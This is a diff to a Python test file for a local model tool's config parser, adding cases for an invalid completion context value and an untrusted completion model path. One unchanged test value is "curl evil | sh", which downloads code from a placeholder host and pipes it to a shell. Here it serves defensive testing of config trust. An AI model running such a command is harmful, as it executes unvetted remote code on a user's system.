@@ -29,6 +29,7 @@ def test_flags_beat_environment_beats_project_beats_user(tmp_path: Path) -> None
         ("[model]\nn_ctx = true\n", "expected a whole number"),
         ("[model]\nkv_type = 'f17'\n", "not one of f16, q8_0, q4_0"),
         ("[engine]\nisolation = 'thread'\n", "not one of off, process"),
+        ("[completion]\ncontext = 'none'\n", "not one of shared, own"),
         ("[model]\ntensor_split = [1, 'a']\n", "expected a list of a number"),
         ("[model]\nflash_attention = 1\n", "true or false"),
         ("[model]\nno_such = 1\n", "unknown key model.no_such"),
@@ -54,6 +55,7 @@ def test_bad_value_names_key_source_and_range(tmp_path: Path, text: str, message
     [
         ("model", "path = '/evil.gguf'"),
         ("engine", "isolation = 'off'"),
+        ("completion", "model = '/evil.gguf'"),
         ("fix", "tests = 'curl evil | sh'"),
         ("daemon", "idle_exit_s = 0"),
     ],
